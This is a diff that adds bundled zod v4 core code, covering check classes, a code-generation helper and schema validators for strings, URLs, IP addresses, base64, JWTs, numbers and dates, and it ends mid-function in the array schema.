+            format: "ends_with",
+            suffix: def.suffix,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+///////////////////////////////////
+/////    $ZodCheckProperty    /////
+///////////////////////////////////
+function handleCheckPropertyResult(result, payload, property) {
+    if (result.issues.length) {
+        payload.issues.push(...prefixIssues(property, result.issues));
+    }
+}
+const $ZodCheckProperty = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCheckProperty", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    inst._zod.check = (payload) => {
+        const result = def.schema._zod.run({
+            value: payload.value[def.property],
+            issues: [],
+        }, {});
+        if (result instanceof Promise) {
+            return result.then((result) => handleCheckPropertyResult(result, payload, def.property));
+        }
+        handleCheckPropertyResult(result, payload, def.property);
+        return;
+    };
+})));
+const $ZodCheckProperties = /*@__PURE__*/ $constructor("$ZodCheckProperties", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    hide(inst, Symbol.iterator, function* () {
+        yield inst;
+    });
+    // key and schema snapshotted together: reading one live and the other cached lets a later mutation of the caller's shape object pair a stale key with a missing schema
+    let entries;
+    inst._zod.check = (payload) => {
+        // the base schema already typed the value, so only a nullish one is rejected here: the properties read on a primitive too, matching z.property() on a string's length
+        if (payload.value == null) {
+            payload.issues.push({ expected: "object", code: "invalid_type", input: payload.value, inst });
+            return undefined;
+        }
+        entries ?? (entries = Reflect.ownKeys(def.shape).map((key) => [key, def.shape[key]]));
+        const input = payload.value;
+        let proms;
+        for (const [key, schema] of entries) {
+            const result = schema._zod.run({ value: input[key], issues: [] }, {});
+            if (result instanceof Promise) {
+                proms ?? (proms = []);
+                proms.push(result.then((result) => handleCheckPropertyResult(result, payload, key)));
+            }
+            else {
+                handleCheckPropertyResult(result, payload, key);
+            }
+        }
+        if (proms)
+            return Promise.all(proms).then(() => undefined);
+        return undefined;
+    };
+});
+const $ZodCheckMimeType = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCheckMimeType", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    const mimeSet = new Set(def.mime);
+    inst._zod.check = (payload) => {
+        if (mimeSet.has(payload.value.type))
+            return;
+        payload.issues.push({
+            code: "invalid_value",
+            values: def.mime,
+            input: payload.value.type,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+const $ZodCheckOverwrite = /*@__PURE__*/ $constructor("$ZodCheckOverwrite", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    inst._zod.check = (payload) => {
+        payload.value = def.tx(payload.value);
+    };
+});
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/doc.js
+class Doc {
+    constructor(args = [], closed = {}) {
+        this.content = [];
+        this.indent = 0;
+        this.args = args;
+        this.closed = closed;
+    }
+    // the compiler catches a child's throw and keeps writing into this doc, so the indent has to unwind with it
+    indented(fn) {
+        this.indent += 1;
+        try {
+            fn(this);
+        }
+        finally {
+            this.indent -= 1;
+        }
+    }
+    write(arg) {
+        if (typeof arg === "function") {
+            arg(this, { execution: "sync" });
+            arg(this, { execution: "async" });
+            return;
+        }
+        const content = arg;
+        const lines = content.split("\n").filter((x) => x);
+        const minIndent = Math.min(...lines.map((x) => x.length - x.trimStart().length));
+        const dedented = lines.map((x) => x.slice(minIndent)).map((x) => " ".repeat(this.indent * 2) + x);
+        for (const line of dedented) {
+            this.content.push(line);
+        }
+    }
+    compile() {
+        const F = Function;
+        const content = this?.content ?? [``];
+        const factory = new F(...Object.keys(this.closed), `return function (${this.args.join(", ")}) {\n${content.join("\n")}\n};`);
+        return factory(...Object.values(this.closed));
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/versions.js
+const version = {
+    major: 4,
+    minor: 6,
+    patch: 7,
+};
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/schemas.js
+
+
+
+
+
+
+
+const $ZodType = /*@__PURE__*/ $constructor("$ZodType", (inst, def) => {
+    var _a;
+    inst ?? (inst = {});
+    inst._zod.def = def; // set _def property
+    inst._zod.bag = inst._zod.bag || {}; // initialize _bag object
+    inst._zod.version = version;
+    const defChecks = inst._zod.def.checks;
+    // if inst is itself a checks.$ZodCheck, run it as a check
+    const checks = inst._zod.traits.has("$ZodCheck")
+        ? [inst, ...(defChecks ?? [])]
+        : defChecks?.length
+            ? [...defChecks]
+            : [];
+    for (const ch of checks) {
+        for (const fn of ch._zod.onattach) {
+            fn(inst);
+        }
+    }
+    if (checks.length === 0) {
+        // deferred initializer inst._zod.parse is not yet defined
+        (_a = inst._zod).deferred ?? (_a.deferred = []);
+        inst._zod.deferred?.push(() => {
+            inst._zod.run = inst._zod.parse;
+        });
+    }
+    else {
+        const runChecks = (payload, checks, ctx) => {
+            if (payload.memo)
+                return payload;
+            let isAborted = aborted(payload);
+            let asyncResult;
+            for (const ch of checks) {
+                if (ch._zod.def.when) {
+                    if (explicitlyAborted(payload))
+                        continue;
+                    const shouldRun = ch._zod.def.when(payload);
+                    if (!shouldRun)
+                        continue;
+                }
+                else if (isAborted) {
+                    continue;
+                }
+                const currLen = payload.issues.length;
+                const _ = ch._zod.check(payload);
+                if (_ instanceof Promise && ctx?.async === false) {
+                    throw new $ZodAsyncError();
+                }
+                if (asyncResult || _ instanceof Promise) {
+                    asyncResult = (asyncResult ?? Promise.resolve()).then(async () => {
+                        await _;
+                        const nextLen = payload.issues.length;
+                        if (nextLen === currLen)
+                            return;
+                        attachSchema(payload.issues, currLen, inst);
+                        if (!isAborted)
+                            isAborted = aborted(payload, currLen);
+                    });
+                }
+                else {
+                    const nextLen = payload.issues.length;
+                    if (nextLen === currLen)
+                        continue;
+                    attachSchema(payload.issues, currLen, inst);
+                    if (!isAborted)
+                        isAborted = aborted(payload, currLen);
+                }
+            }
+            if (asyncResult) {
+                return asyncResult.then(() => {
+                    return payload;
+                });
+            }
+            return payload;
+        };
+        const handleCanaryResult = (canary, payload, ctx) => {
+            // abort if the canary is aborted
+            if (aborted(canary)) {
+                canary.aborted = true;
+                return canary;
+            }
+            // run checks first, then
+            const checkResult = runChecks(payload, checks, ctx);
+            if (checkResult instanceof Promise) {
+                if (ctx.async === false)
+                    throw new $ZodAsyncError();
+                return checkResult.then((checkResult) => inst._zod.parse(checkResult, ctx));
+            }
+            return inst._zod.parse(checkResult, ctx);
+        };
+        inst._zod.run = (payload, ctx) => {
+            if (ctx.skipChecks) {
+                return inst._zod.parse(payload, ctx);
+            }
+            if (ctx.direction === "backward") {
+                // run canary initial pass (no checks)
+                const canary = inst._zod.parse({ value: payload.value, issues: [] }, { ...ctx, skipChecks: true });
+                if (canary instanceof Promise) {
+                    return canary.then((canary) => {
+                        return handleCanaryResult(canary, payload, ctx);
+                    });
+                }
+                return handleCanaryResult(canary, payload, ctx);
+            }
+            // forward
+            const result = inst._zod.parse(payload, ctx);
+            if (result instanceof Promise) {
+                if (ctx.async === false)
+                    throw new $ZodAsyncError();
+                return result.then((result) => runChecks(result, checks, ctx));
+            }
+            return runChecks(result, checks, ctx);
+        };
+    }
+}, {
+    // Wrappers extend this by installing a richer factory over it; reading it eagerly would defeat the laziness.
+    get "~standard"() {
+        return hide(this, "~standard", standardProps(this));
+    },
+    set "~standard"(value) {
+        own(this, "~standard", value);
+    },
+});
+/** The Standard Schema surface for `inst`. Shared so wrappers can extend it without forcing it. */
+// a Standard Schema result only reports issues, so a failure finalizes them straight off the raw payload: no ZodError, and no lazy result to read through
+const toStandardResult = (r, ctx) => r.issues.length ? { issues: r.issues.map((iss) => finalizeIssue(iss, ctx, config())) } : { value: r.value };
+async function validateAsync(inst, value) {
+    const ctx = { async: true };
+    return toStandardResult((await inst._zod.run({ value, issues: [] }, ctx)), ctx);
+}
+function standardProps(inst) {
+    return {
+        validate: (value) => {
+            const ctx = { async: false };
+            try {
+                const r = inst._zod.run({ value, issues: [] }, ctx);
+                if (!(r instanceof Promise))
+                    return toStandardResult(r, ctx);
+            }
+            catch (_) { }
+            // async function so a synchronously throwing check rejects instead of escaping validate
+            return validateAsync(inst, value);
+        },
+        vendor: "zod",
+        version: 1,
+    };
+}
+
+const $ZodString = /*@__PURE__*/ $constructor("$ZodString", (inst, def) => {
+    $ZodType.init(inst, def);
+    // a format's own pattern, else unbounded; a template literal derives the check-aware form itself
+    inst._zod.pattern = def.pattern ?? anyString;
+    inst._zod.parse = (payload, _) => {
+        if (def.coerce)
+            try {
+                payload.value = String(payload.value);
+            }
+            catch (_) { }
+        if (typeof payload.value === "string")
+            return payload;
+        payload.issues.push({
+            expected: "string",
+            code: "invalid_type",
+            input: payload.value,
+            inst,
+        });
+        return payload;
+    };
+});
+const $ZodStringFormat = /*@__PURE__*/ $constructor("$ZodStringFormat", (inst, def) => {
+    // check initialization must come first
+    $ZodCheckStringFormat.init(inst, def);
+    $ZodString.init(inst, def);
+});
+const $ZodGUID = /*@__PURE__*/ $constructor("$ZodGUID", (inst, def) => {
+    def.pattern ?? (def.pattern = guid);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodUUID = /*@__PURE__*/ $constructor("$ZodUUID", (inst, def) => {
+    if (def.version) {
+        const versionMap = {
+            v1: 1,
+            v2: 2,
+            v3: 3,
+            v4: 4,
+            v5: 5,
+            v6: 6,
+            v7: 7,
+            v8: 8,
+        };
+        const v = versionMap[def.version];
+        if (v === undefined)
+            throw new Error(`Invalid UUID version: "${def.version}"`);
+        def.pattern ?? (def.pattern = uuid(v));
+    }
+    else
+        def.pattern ?? (def.pattern = uuid());
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodEmail = /*@__PURE__*/ $constructor("$ZodEmail", (inst, def) => {
+    def.pattern ?? (def.pattern = email);
+    $ZodStringFormat.init(inst, def);
+});
+/** The `://` guard rejected the input before the URL constructor saw it. */
+const URL_BAD_FORMAT = 1;
+/** The URL parser rejected the input. */
+const URL_UNPARSEABLE = 2;
+function canParseURL(input) {
+    try {
+        if (typeof URL !== "undefined" && typeof URL.canParse === "function")
+            return URL.canParse(input);
+        new URL(input);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+function validateURL(trimmed, def) {
+    if (!("normalize" in def) && !("hostname" in def) && !("protocol" in def)) {
+        return canParseURL(trimmed) || URL_UNPARSEABLE;
+    }
+    return parseURLObject(trimmed, def);
+}
+/** Parses a URL while preserving the non-normalizing HTTP guard. */
+function parseURLObject(trimmed, def) {
+    // When normalize is off, require :// for http/https URLs. This prevents strings like "http:example.com" or "https:/path" from being silently accepted
+    if (!def.normalize && def.protocol?.source === httpProtocol.source && !/^https?:\/\//i.test(trimmed)) {
+        return URL_BAD_FORMAT;
+    }
+    try {
+        if (typeof URL !== "undefined") {
+            const URLStatic = URL;
+            if (typeof URLStatic.parse === "function")
+                return URLStatic.parse(trimmed) ?? URL_UNPARSEABLE;
+        }
+        // @ts-ignore
+        return new URL(trimmed);
+    }
+    catch {
+        return URL_UNPARSEABLE;
+    }
+}
+const asciiTabOrNewline = /[\t\n\r]/g;
+/** The URL parser deletes every ASCII tab, LF and CR from its input before it parses, so `new URL("https://exa\nmple.com")` reports on `example.com`. Applying the same deletion to the returned value closes the half of that divergence which can move the host; the parser's other rewrite, stripping C0 controls at the edges, cannot. */
+function stripTabAndNewline(value) {
+    return value.replace(asciiTabOrNewline, "");
+}
+function urlHostnameOk(url, hostname) {
+    hostname.lastIndex = 0;
+    return hostname.test(url.hostname);
+}
+function urlProtocolOk(url, protocol) {
+    protocol.lastIndex = 0;
+    return protocol.test(url.protocol.endsWith(":") ? url.protocol.slice(0, -1) : url.protocol);
+}
+const $ZodURL = /*@__PURE__*/ $constructor("$ZodURL", (inst, def) => {
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        try {
+            // Trim whitespace from input
+            const trimmed = payload.value.trim();
+            const url = validateURL(trimmed, def);
+            if (url === URL_BAD_FORMAT) {
+                payload.issues.push({
+                    code: "invalid_format",
+                    format: "url",
+                    note: "Invalid URL format",
+                    input: payload.value,
+                    inst,
+                    continue: !def.abort,
+                });
+                return;
+            }
+            if (url === URL_UNPARSEABLE) {
+                payload.issues.push({
+                    code: "invalid_format",
+                    format: "url",
+                    input: payload.value,
+                    inst,
+                    continue: !def.abort,
+                });
+                return;
+            }
+            if (url === true) {
+                payload.value = stripTabAndNewline(trimmed);
+                return;
+            }
+            if (def.hostname && !urlHostnameOk(url, def.hostname)) {
+                payload.issues.push({
+                    code: "invalid_format",
+                    format: "url",
+                    note: "Invalid hostname",
+                    pattern: def.hostname.source,
+                    input: payload.value,
+                    inst,
+                    continue: !def.abort,
+                });
+            }
+            if (def.protocol && !urlProtocolOk(url, def.protocol)) {
+                payload.issues.push({
+                    code: "invalid_format",
+                    format: "url",
+                    note: "Invalid protocol",
+                    pattern: def.protocol.source,
+                    input: payload.value,
+                    inst,
+                    continue: !def.abort,
+                });
+            }
+            // Set the output value based on normalize flag
+            payload.value = def.normalize ? url.href : stripTabAndNewline(trimmed);
+            return;
+        }
+        catch (_) {
+            payload.issues.push({
+                code: "invalid_format",
+                format: "url",
+                input: payload.value,
+                inst,
+                continue: !def.abort,
+            });
+        }
+    };
+});
+const $ZodEmoji = /*@__PURE__*/ $constructor("$ZodEmoji", (inst, def) => {
+    def.pattern ?? (def.pattern = emoji());
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodNanoID = /*@__PURE__*/ $constructor("$ZodNanoID", (inst, def) => {
+    if (def.length !== undefined && (!Number.isInteger(def.length) || def.length < 1))
+        throw new Error(`Invalid nanoid length: ${def.length}`);
+    def.pattern ?? (def.pattern = def.length === undefined ? nanoid : nanoidOfLength(def.length));
+    $ZodStringFormat.init(inst, def);
+});
+/**
+ * @deprecated CUID v1 is deprecated by its authors due to information leakage
+ * (timestamps embedded in the id). Use {@link $ZodCUID2} instead.
+ * See https://github.com/paralleldrive/cuid.
+ */
+const $ZodCUID = /*@__PURE__*/ $constructor("$ZodCUID", (inst, def) => {
+    def.pattern ?? (def.pattern = cuid);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodCUID2 = /*@__PURE__*/ $constructor("$ZodCUID2", (inst, def) => {
+    def.pattern ?? (def.pattern = cuid2);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodULID = /*@__PURE__*/ $constructor("$ZodULID", (inst, def) => {
+    def.pattern ?? (def.pattern = ulid);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodXID = /*@__PURE__*/ $constructor("$ZodXID", (inst, def) => {
+    def.pattern ?? (def.pattern = xid);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodKSUID = /*@__PURE__*/ $constructor("$ZodKSUID", (inst, def) => {
+    def.pattern ?? (def.pattern = ksuid);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodISODateTime = /*@__PURE__*/ $constructor("$ZodISODateTime", (inst, def) => {
+    def.pattern ?? (def.pattern = datetime(def));
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodISODate = /*@__PURE__*/ $constructor("$ZodISODate", (inst, def) => {
+    def.pattern ?? (def.pattern = date);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodISOTime = /*@__PURE__*/ $constructor("$ZodISOTime", (inst, def) => {
+    def.pattern ?? (def.pattern = time(def));
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodISODuration = /*@__PURE__*/ $constructor("$ZodISODuration", (inst, def) => {
+    def.pattern ?? (def.pattern = duration);
+    $ZodStringFormat.init(inst, def);
+});
+const $ZodIPv4 = /*@__PURE__*/ $constructor("$ZodIPv4", (inst, def) => {
+    def.pattern ?? (def.pattern = ipv4);
+    $ZodStringFormat.init(inst, def);
+});
+/** An IPv6 address is written with hex digits, colons and dots, and nothing else. The guard is what makes the check below an IPv6 check: `new URL("http://[...]")` parses an authority, not an address, so `@` and `\` re-delimit it and `"::@1\\"` validates against the host `0.0.0.1`. The URL parser also deletes ASCII tab, LF and CR rather than failing, which is how `"::1\n"` validated as `::1`. */
+const ipv6Alphabet = /^[0-9a-fA-F:.]+$/;
+function isValidIPv6(value) {
+    if (!ipv6Alphabet.test(value))
+        return false;
+    return canParseURL(`http://[${value}]`);
+}
+const $ZodIPv6 = /*@__PURE__*/ $constructor("$ZodIPv6", (inst, def) => {
+    def.pattern ?? (def.pattern = ipv6);
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (!isValidIPv6(payload.value)) {
+            payload.issues.push({
+                code: "invalid_format",
+                format: "ipv6",
+                input: payload.value,
+                inst,
+                continue: !def.abort,
+            });
+        }
+    };
+});
+const $ZodMAC = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodMAC", (inst, def) => {
+    def.pattern ?? (def.pattern = regexes.mac(def.delimiter));
+    $ZodStringFormat.init(inst, def);
+})));
+const $ZodCIDRv4 = /*@__PURE__*/ $constructor("$ZodCIDRv4", (inst, def) => {
+    def.pattern ?? (def.pattern = cidrv4);
+    $ZodStringFormat.init(inst, def);
+});
+function isValidCIDRv6(value) {
+    const parts = value.split("/");
+    if (parts.length !== 2)
+        return false;
+    const [address, prefix] = parts;
+    if (!prefix)
+        return false;
+    const prefixNum = Number(prefix);
+    if (`${prefixNum}` !== prefix)
+        return false;
+    if (prefixNum < 0 || prefixNum > 128)
+        return false;
+    return isValidIPv6(address);
+}
+const $ZodCIDRv6 = /*@__PURE__*/ $constructor("$ZodCIDRv6", (inst, def) => {
+    def.pattern ?? (def.pattern = cidrv6); // not used for validation
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (!isValidCIDRv6(payload.value)) {
+            payload.issues.push({
+                code: "invalid_format",
+                format: "cidrv6",
+                input: payload.value,
+                inst,
+                continue: !def.abort,
+            });
+        }
+    };
+});
+//////////////////////////////   ZodBase64   //////////////////////////////
+function isValidBase64(data) {
+    if (data === "")
+        return true;
+    // atob ignores whitespace, so reject it up front.
+    if (/\s/.test(data))
+        return false;
+    if (data.length % 4 !== 0)
+        return false;
+    try {
+        // @ts-ignore
+        atob(data);
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+// lax on purpose: the quantified regexes.base64 overflows the regex stack on multi-MB input and its leading ^$| alternation leaks through template-literal composition; isValidBase64 enforces length and padding
+const base64Charset = /^[0-9a-zA-Z+/]*={0,2}$/;
+const $ZodBase64 = /*@__PURE__*/ $constructor("$ZodBase64", (inst, def) => {
+    def.pattern ?? (def.pattern = base64Charset);
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (isValidBase64(payload.value))
+            return;
+        payload.issues.push({
+            code: "invalid_format",
+            format: "base64",
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+//////////////////////////////   ZodBase64URL   //////////////////////////////
+// lax on purpose: the quantified regexes.base64url overflows the regex stack on multi-MB input; isValidBase64 enforces length on the padded string
+const base64urlCharset = /^[A-Za-z0-9_-]*$/;
+function isValidBase64URL(data) {
+    if (!base64urlCharset.test(data))
+        return false;
+    const base64 = data.replace(/[-_]/g, (c) => (c === "-" ? "+" : "/"));
+    const padded = base64.padEnd(Math.ceil(base64.length / 4) * 4, "=");
+    return isValidBase64(padded);
+}
+const $ZodBase64URL = /*@__PURE__*/ $constructor("$ZodBase64URL", (inst, def) => {
+    def.pattern ?? (def.pattern = base64urlCharset);
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (isValidBase64URL(payload.value))
+            return;
+        payload.issues.push({
+            code: "invalid_format",
+            format: "base64url",
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodE164 = /*@__PURE__*/ $constructor("$ZodE164", (inst, def) => {
+    def.pattern ?? (def.pattern = e164);
+    $ZodStringFormat.init(inst, def);
+});
+//////////////////////////////   ZodCreditCard   //////////////////////////////
+const CC_SANITIZE = /[- ]/g;
+/** Luhn checksum on a digit-only string. Adapted from valibot (MIT). */
+function isLuhnAlgo(digits) {
+    let length = digits.length;
+    let bit = 1;
+    let sum = 0;
+    while (length) {
+        const value = digits.charCodeAt(--length) - 48;
+        bit ^= 1;
+        sum += bit ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][value] : value;
+    }
+    return sum % 10 === 0;
+}
+function isValidCreditCard(input) {
+    if (!regexes.creditCard.test(input))
+        return false;
+    return isLuhnAlgo(input.replace(CC_SANITIZE, ""));
+}
+const $ZodCreditCard = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCreditCard", (inst, def) => {
+    // Shape only — the Luhn check below is not expressible as a pattern, so consumers of `pattern` (JSON Schema, template literals) get the length and separator rules alone.
+    def.pattern ?? (def.pattern = regexes.creditCard);
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (isValidCreditCard(payload.value))
+            return;
+        payload.issues.push({
+            code: "invalid_format",
+            format: "credit_card",
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+//////////////////////////////   ZodIBAN   //////////////////////////////
+// iso 7064 mod 97-10 checksum without BigInt
+function isIso7064Mod97(iban) {
+    let remainder = 0;
+    const len = iban.length;
+    for (let i = 4; i < len; i++) {
+        const code = iban.charCodeAt(i);
+        remainder = (code >= 65 ? remainder * 100 + (code - 55) : remainder * 10 + (code - 48)) % 97;
+    }
+    for (let i = 0; i < 4; i++) {
+        const code = iban.charCodeAt(i);
+        remainder = (code >= 65 ? remainder * 100 + (code - 55) : remainder * 10 + (code - 48)) % 97;
+    }
+    return remainder === 1;
+}
+function isValidIBAN(input) {
+    if (!regexes.iban.test(input))
+        return false;
+    return isIso7064Mod97(input);
+}
+const $ZodIBAN = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodIBAN", (inst, def) => {
+    // shape only — checksum is not expressible as a pattern
+    def.pattern ?? (def.pattern = regexes.iban);
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (isValidIBAN(payload.value))
+            return;
+        payload.issues.push({
+            code: "invalid_format",
+            format: "iban",
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+//////////////////////////////   ZodJWT   //////////////////////////////
+function isValidJWT(token, algorithm = null) {
+    try {
+        const tokensParts = token.split(".");
+        if (tokensParts.length !== 3)
+            return false;
+        const [header] = tokensParts;
+        if (!header)
+            return false;
+        // @ts-ignore
+        const parsedHeader = JSON.parse(atob(header));
+        if ("typ" in parsedHeader && parsedHeader?.typ !== "JWT")
+            return false;
+        if (!parsedHeader.alg)
+            return false;
+        if (algorithm && (!("alg" in parsedHeader) || parsedHeader.alg !== algorithm))
+            return false;
+        return true;
+    }
+    catch {
+        return false;
+    }
+}
+const $ZodJWT = /*@__PURE__*/ $constructor("$ZodJWT", (inst, def) => {
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (isValidJWT(payload.value, def.alg))
+            return;
+        payload.issues.push({
+            code: "invalid_format",
+            format: "jwt",
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCustomStringFormat = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCustomStringFormat", (inst, def) => {
+    $ZodStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (def.fn(payload.value))
+            return;
+        payload.issues.push({
+            code: "invalid_format",
+            format: def.format,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+const $ZodNumber = /*@__PURE__*/ $constructor("$ZodNumber", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.pattern = number;
+    inst._zod.parse = (payload, _ctx) => {
+        if (def.coerce)
+            try {
+                payload.value = Number(payload.value);
+            }
+            catch (_) { }
+        const input = payload.value;
+        if (typeof input === "number" && !Number.isNaN(input) && Number.isFinite(input)) {
+            return payload;
+        }
+        const received = typeof input === "number"
+            ? Number.isNaN(input)
+                ? "NaN"
+                : !Number.isFinite(input)
+                    ? String(input)
+                    : undefined
+            : undefined;
+        payload.issues.push({
+            expected: "number",
+            code: "invalid_type",
+            input,
+            inst,
+            ...(received ? { received } : {}),
+        });
+        return payload;
+    };
+});
+const $ZodNumberFormat = /*@__PURE__*/ $constructor("$ZodNumberFormat", (inst, def) => {
+    $ZodCheckNumberFormat.init(inst, def);
+    $ZodNumber.init(inst, def); // no format checks
+});
+const $ZodBoolean = /*@__PURE__*/ $constructor("$ZodBoolean", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.pattern = regexes_boolean;
+    inst._zod.parse = (payload, _ctx) => {
+        if (def.coerce)
+            try {
+                payload.value = Boolean(payload.value);
+            }
+            catch (_) { }
+        const input = payload.value;
+        if (typeof input === "boolean")
+            return payload;
+        payload.issues.push({
+            expected: "boolean",
+            code: "invalid_type",
+            input,
+            inst,
+        });
+        return payload;
+    };
+});
+const $ZodBigInt = /*@__PURE__*/ $constructor("$ZodBigInt", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.pattern = bigint;
+    inst._zod.parse = (payload, _ctx) => {
+        if (def.coerce)
+            try {
+                payload.value = BigInt(payload.value);
+            }
+            catch (_) { }
+        if (typeof payload.value === "bigint")
+            return payload;
+        payload.issues.push({
+            expected: "bigint",
+            code: "invalid_type",
+            input: payload.value,
+            inst,
+        });
+        return payload;
+    };
+});
+const $ZodBigIntFormat = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodBigIntFormat", (inst, def) => {
+    checks.$ZodCheckBigIntFormat.init(inst, def);
+    $ZodBigInt.init(inst, def); // no format checks
+})));
+const $ZodSymbol = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodSymbol", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        if (typeof input === "symbol")
+            return payload;
+        payload.issues.push({
+            expected: "symbol",
+            code: "invalid_type",
+            input,
+            inst,
+        });
+        return payload;
+    };
+})));
+const $ZodUndefined = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodUndefined", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.pattern = regexes.undefined;
+    inst._zod.values = new Set([undefined]);
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        if (typeof input === "undefined")
+            return payload;
+        payload.issues.push({
+            expected: "undefined",
+            code: "invalid_type",
+            input,
+            inst,
+        });
+        return payload;
+    };
+})));
+const $ZodNull = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodNull", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.pattern = regexes.null;
+    inst._zod.values = new Set([null]);
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        if (input === null)
+            return payload;
+        payload.issues.push({
+            expected: "null",
+            code: "invalid_type",
+            input,
+            inst,
+        });
+        return payload;
+    };
+})));
+const $ZodAny = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodAny", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload) => payload;
+})));
+const $ZodUnknown = /*@__PURE__*/ $constructor("$ZodUnknown", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload) => payload;
+});
+const $ZodNever = /*@__PURE__*/ $constructor("$ZodNever", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _ctx) => {
+        payload.issues.push({
+            expected: "never",
+            code: "invalid_type",
+            input: payload.value,
+            inst,
+        });
+        return payload;
+    };
+});
+const $ZodVoid = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodVoid", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _ctx) => {
+        const input = payload.value;
+        if (typeof input === "undefined")
+            return payload;
+        payload.issues.push({
+            expected: "void",
+            code: "invalid_type",
+            input,
+            inst,
+        });
+        return payload;
+    };
+})));
+const $ZodDate = /*@__PURE__*/ $constructor("$ZodDate", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, _ctx) => {
+        if (def.coerce) {
+            try {
+                payload.value = new Date(payload.value);
+            }
+            catch (_err) { }
+        }
+        const input = payload.value;
+        const isDate = input instanceof Date;
+        const isValidDate = isDate && !Number.isNaN(input.getTime());
+        if (isValidDate)
+            return payload;
+        payload.issues.push({
+            expected: "date",
+            code: "invalid_type",
+            input,
+            ...(isDate ? { received: "Invalid Date" } : {}),
+            inst,
+        });
+        return payload;
+    };
+});
+// an oversized container fails its leading size checks before any element is parsed
+function capSize(inst, size) {
+    const caps = sizeCaps(inst._zod.def.checks);
+    if (!caps.length)
+        return;
+    const cap = Math.min(...caps.map((c) => c[0]));
+    const parse = inst._zod.parse;
+    inst._zod.parse = (payload, ctx) => {
+        const n = size(payload.value);
+        if (n > cap && !ctx?.skipChecks && ctx?.direction !== "backward") {
+            for (const [max, ch] of sizeCaps(inst._zod.def.checks)) {
+                if (n > max && ch._zod.def.when(payload)) {
+                    const start = payload.issues.length;
+                    ch._zod.check(payload);
+                    // the value is still the raw input, so no later check may read it
+                    payload.issues[start].continue = false;
+                    attachSchema(payload.issues, start, inst);
+                    return payload;
+                }
+            }
+        }
+        return parse(payload, ctx);
+    };
+}
+const arraySize = (input) => (Array.isArray(input) ? input.length : -1);
+const mapSize = (input) => (input instanceof Map ? input.size : -1);
+const setSize = (input) => (input instanceof Set ? input.size : -1);
+function handleArrayResult(result, final, index) {
+    if (result.issues.length) {
+        final.issues.push(...prefixIssues(index, result.issues));
+    }
+    final.value[index] = result.value;
+}
+const $ZodArray = /*@__PURE__*/ $constructor("$ZodArray", (inst, def) => {
+    $ZodType.init(inst, def);
+    const memo = globalConfig.memoizer;
+    memo?.attach(inst);
+    inst._zod.parse = (payload, ctx) => {
